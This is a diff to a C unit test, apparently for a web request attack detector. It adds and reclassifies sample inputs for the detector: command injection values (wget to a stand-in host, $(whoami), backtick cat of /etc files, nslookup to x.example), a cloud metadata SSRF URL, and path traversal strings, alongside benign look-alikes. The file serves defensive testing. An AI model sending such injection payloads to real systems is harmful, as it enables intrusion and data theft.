@@ -78,7 +78,7 @@ static void words_are_sorted(void **state)
 		{"u=http://169.254.169.254/", CONDUCT_SURE},
 		{"h=1;wget+http://e/x", CONDUCT_SURE},
 		{"h=$(whoami)", CONDUCT_SURE},
-		{"h=`id`", CONDUCT_SURE},
+		{"h=`id`", CONDUCT_PERHAPS}, {"h=`cat%20/etc/x`", CONDUCT_SURE}, {"h=%27;id;%27", CONDUCT_PERHAPS},
 		{"h=1%0aid", CONDUCT_PERHAPS},
 		{"h=1%26nslookup+x.example%26", CONDUCT_SURE},
 		{"h=1|busybox${IFS}x", CONDUCT_SURE},
@@ -117,7 +117,8 @@ static void words_are_sorted(void **state)
 		{"cql=a%3D2%20AND%201%3D1", CONDUCT_NONE},
 		{"a=${GDPR_CONSENT_755}&b={{campaign.id}}&c=$(date)", CONDUCT_NONE},
 		{"name=a;id=5|b", CONDUCT_NONE},
-		{"f=id;cat;ls|sh", CONDUCT_NONE},
+		{"f=id;cat;ls|sh", CONDUCT_NONE}, {"tags=bash|curl;wget", CONDUCT_NONE},
+		{"tex=%5Cfrac%7B7%7D%7B7*x%7D", CONDUCT_NONE}, {"a={7*7}", CONDUCT_TYPED},
 		{"t=this;+cat+pictures", CONDUCT_NONE},
 		{"a=1%26id%3D5", CONDUCT_NONE},
 		{"$filter=contains(Name,'O''Neil')%20and%20concat(A,B)%20eq%20'x'", CONDUCT_NONE},
@@ -137,7 +138,7 @@ static void words_are_sorted(void **state)
 		{"/*!", CONDUCT_NONE},
 	};
 	static const struct { const char *path; bool found; } paths[] = {
-		{"/a/..%2fb", true}, {"/a/..%5cb", true}, {"/$%7Bimage%7D", false},
+		{"/a/..%2fb", true}, {"/a/;/b", true}, {"/a/b;c=1/d", false}, {"/a/..%5cb", true}, {"/$%7Bimage%7D", false},
 		{"/wiki/Semicolon;_and_colon", false},
 		{"/../images/logo", false}, {"/a/../b", false}, {"/../../x", true},
 		{"/a/../../../x", true}, {"/a/../b/../c/../d", true}, {"/a/%2e%2e/b", true},
